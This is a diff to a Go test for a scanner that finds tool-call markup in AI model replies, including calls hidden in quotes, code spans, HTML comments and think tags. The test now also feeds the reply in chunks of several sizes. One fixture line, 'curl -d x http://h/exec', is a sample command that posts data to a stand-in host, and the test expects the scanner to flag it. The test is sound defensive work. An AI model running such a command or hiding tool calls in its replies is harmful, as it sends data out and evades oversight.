@@ -331,16 +331,11 @@ func TestBrokenCount(t *testing.T) {
 }
 
 func TestExplain(t *testing.T) {
-	reply := "> [TOOL a {}]\n`[TOOL a {}]` \\[TOOL a {}]\n```\n[TOOL a {}]\n```\n<!-- [TOOL a {}] -->\n<think>[TOOL a {}]</think>\n" +
-		"[TOOL a {x}] [TOOL a {} x]\ncurl -d x http://h/exec\n"
-	var got []string
-	c := Config{Explain: func(f Finding) {
-		got = append(got, fmt.Sprintf("%d %q", f.Rule, reply[f.Start:f.End]))
-	}}
-	harvest(c, true, []byte(reply))
+	reply := "> [TOOL a {}]\n> x\n`[TOOL a {}] ``` ` `x` \\[TOOL a {}] \\[1] \"[x]\"\n```\n[TOOL a {}]\n```\n<!-- [TOOL a {}] --><!-- x -->\n" +
+		"<think>[TOOL a {}]</think>\n[TOOL a {x}] [TOOL a {} x] <x [DM]\ncurl -d x http://h/exec\n~~~ sh\n<!-- [DM {}]"
 	want := []string{
 		`9 "> [TOOL a {}]\n"`,
-		"10 \"`[TOOL a {}]`\"",
+		"10 \"`[TOOL a {}] ``` `\"",
 		`11 "["`,
 		`12 "[TOOL a {}]\n"`,
 		`14 "<!-- [TOOL a {}] -->"`,
@@ -348,9 +343,17 @@ func TestExplain(t *testing.T) {
 		`8 "[TOOL a {"`,
 		`5 "[TOOL a {} "`,
 		`19 "curl -d x http://h/exec"`,
+		`12 "<!-- [DM {}]"`,
 	}
-	if fmt.Sprint(got) != fmt.Sprint(want) {
-		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	for _, size := range []int{1000, 7, 1} {
+		var got []string
+		c := Config{Explain: func(f Finding) {
+			got = append(got, fmt.Sprintf("%d %q", f.Rule, reply[f.Start:f.End]))
+		}}
+		harvest(c, true, cuts([]byte(reply), size)...)
+		if fmt.Sprint(got) != fmt.Sprint(want) {
+			t.Errorf("in pieces of %d: got\n%s\nwant\n%s", size, strings.Join(got, "\n"), strings.Join(want, "\n"))
+		}
 	}
 }
 
